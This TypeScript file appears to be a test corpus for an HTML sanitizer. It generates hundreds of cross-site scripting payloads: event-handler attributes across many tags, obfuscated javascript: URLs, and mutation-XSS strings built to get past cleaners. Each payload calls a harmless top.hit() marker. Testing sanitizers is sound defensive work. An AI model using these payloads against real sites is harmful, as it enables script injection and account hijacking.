/** What a piece of HTML does when it runs: it says so to the window at the top. */
const hit = "top.hit()";
const coded = [...hit].map((sign) => `&#${String(sign.codePointAt(0))};`).join("");

const tags = [
  "img src=x",
  "svg",
  "video src=x",
  "audio src=x",
  "input autofocus",
  "details open",
  "body",
  "a href=#",
  "p",
  "table",
  "iframe",
  "form",
  "button",
  "select",
  "marquee",
  "math",
  "object data=x",
  "unknown",
];
/** Each of which `runEach` lets happen to every element. */
export const events = [
  "error",
  "load",
  "click",
  "mouseover",
  "focus",
  "toggle",
  "pointerenter",
  "animationend",
] as const;
const handlers: readonly ((event: string) => string)[] = [
  (event) => ` on${event}=${hit}`,
  (event) => `/on${event}="${hit}"`,
  (event) => `\ton${event.toUpperCase()}='${hit}'`,
  (event) => `\n oN${event} = "${coded}"`,
  (event) => ` x=">" on${event}=${hit}`,
  (event) => ` style=color:red on${event}=${hit}`,
];

const generated = tags.flatMap((tag) =>
  events.flatMap((event) => handlers.map((handler) => `<${tag}${handler(event)}>x`)),
);

const schemes = [
  `javascript:${hit}`,
  `JaVaScRiPt:${hit}`,
  ` javascript:${hit}`,
  `&#1;javascript:${hit}`,
  `java&Tab;script:${hit}`,
  `java&NewLine;script:${hit}`,
  `java\tscript:${hit}`,
  `javascript&colon;${hit}`,
  `&#106;avascript:${hit}`,
  `javascript://%0a${hit}`,
];
const linked = schemes.flatMap((scheme) => [
  `<a href="${scheme}">x</a>`,
  `<a href='${scheme}' target=_self>x</a>`,
  `<svg><a xlink:href="${scheme}"><text>x</text></a></svg>`,
  `<math><a href="${scheme}">x</a></math>`,
  `<form action="${scheme}"><button>x</button></form>`,
  `<form><button formaction="${scheme}">x</button></form>`,
  `<iframe src="${scheme}"></iframe>`,
  `<area href="${scheme}">`,
]);

/** What a cleaner that reads HTML otherwise than a browser lets through. */
const mutated = [
  `<script>${hit}</script>`,
  `<scr<script>ipt>${hit}</scr</script>ipt>`,
  `<svg><script>${hit}</script></svg>`,
  `<iframe srcdoc="<script>${hit}</script>"></iframe>`,
  `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${hit}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${hit}>">`,
  `<title><p title="</title><img src=x onerror=${hit}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${hit}>">`,
  `<style><p title="</style><img src=x onerror=${hit}>">`,
  `<!--><img src=x onerror=${hit}>-->`,
  `<!--!><img src=x onerror=${hit}>`,
  `<![CDATA[<img src=x onerror=${hit}>]]>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${hit}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${hit}>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${hit}></annotation-xml></math>`,
  `<svg><foreignObject><img src=x onerror=${hit}></foreignObject></svg>`,
  `<svg><desc><img src=x onerror=${hit}></desc></svg>`,
  `<p><svg><style>&lt;img src=x onerror=${hit}&gt;</style></svg>`,
  `<table><td><a title="<td><img src=x onerror=${hit}>">x`,
  `<img src="x\`\` onerror=${hit}">\`<img src=x onerror=${hit}>`,
  `<img alt="&quot;><img src=x onerror=${hit}>" src=x>`,
  `<a href="/about" title='"><img src=x onerror=${hit}>'>x</a>`,
  `<img src=x onerror\u0000=${hit}>`,
  `<\u0000img src=x onerror=${hit}>`,
  `<img\u000csrc=x\u000conerror=${hit}>`,
  `<img src=x:x onerror=${hit} <p>`,
];

/** Pieces of HTML that run a script where nobody cleans them, most of them by something that happens to an element. */
export const htmlThatRuns: readonly string[] = [...generated, ...linked, ...mutated];
